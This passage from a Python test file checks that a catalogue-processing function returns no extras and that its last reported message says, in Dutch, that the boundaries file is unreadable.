        catalogue, layout, site_url="", publisher=PUBLISHER, contact_url=None, workers=1
    )
    assert found_extras is None
    assert len(found) >= 2
    assert found[-1].message.startswith("het grenzenbestand is onleesbaar")
